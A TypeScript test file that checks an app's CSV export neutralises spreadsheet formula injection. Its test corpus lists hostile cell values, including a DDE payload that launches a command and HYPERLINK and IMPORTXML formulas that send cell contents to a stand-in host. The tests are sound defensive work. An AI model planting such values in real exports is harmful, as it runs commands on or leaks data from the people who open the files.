import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join, relative } from 'node:path'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvCell, csvText } from '../../db/platform/csv'

/** Values that Excel or LibreOffice would run as a formula, as they reached a report CSV. */
export const formulaCorpus = [
  '=HYPERLINK("https://example.org/?"&A1,"Klik hier")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+31 6 12345678',
  '+1+1',
  '-2+3',
  '-',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=IMPORTXML(CONCAT("https://example.org/?v=", A1), "//a")',
] as const

const root = new URL('../../', import.meta.url).pathname

describe('the CSV writer', () => {
  it.each(formulaCorpus)('keeps %j as text Excel shows, never a formula', (value) => {
    const written = csvCell(value)
    expect(written.startsWith(`"'`)).toBe(true)
    // Read back as Excel's CSV reader does: the cell starts with the apostrophe, not the formula.
    const [[cell]] = Papa.parse<string[]>(csvText([[value]]).slice(1), { delimiter: ';' }).data as [
      [string],
    ]
    expect(cell).toBe(`'${value}`)
  })

  it('writes ordinary text, numbers and nothing as they are', () => {
    expect(csvCell('Noord')).toBe('Noord')
    expect(csvCell('Kees; Jan')).toBe('"Kees; Jan"')
    expect(csvCell('zei "hoi"')).toBe('"zei ""hoi"""')
    expect(csvCell('twee\nregels')).toBe('"twee\nregels"')
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(12)).toBe('12')
    expect(csvCell(Number.NaN)).toBe('')
    expect(csvCell(null)).toBe('')
    expect(csvCell('e-mail')).toBe('e-mail')
    expect(csvCell('<5')).toBe('<5')
  })

  it('writes UTF-8 with a byte-order mark, `;` and CRLF, for Dutch Excel', () => {
    expect(csvText([['a', 1], ['ë']])).toBe('\ufeffa;1\r\në\r\n')
  })

  it('is the only code that writes a CSV', () => {
    const sources: string[] = []
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name)
        if (statSync(path).isDirectory()) walk(path)
        else if (/\.(ts|tsx)$/.test(name)) sources.push(path)
      }
    }
    for (const dir of ['db', 'electron', 'shared', 'renderer/src']) walk(join(root, dir))
    // What writing a CSV for Excel looks like in code: CRLF line ends, a byte-order mark, its type.
    const writes = /(['"`])\\r\\n\1|\\r\\n`|`\\ufeff|(['"])\\ufeff|text\/csv/
    const writers = sources.filter((path) => {
      const code = readFileSync(path, 'utf8')
        .replace(/\/\*[\s\S]*?\*\//g, '')
        .replace(/^\s*\/\/.*$/gm, '')
      return writes.test(code)
    })
    expect(writers.map((path) => relative(root, path))).toEqual(['db/platform/csv.ts'])
  })
})
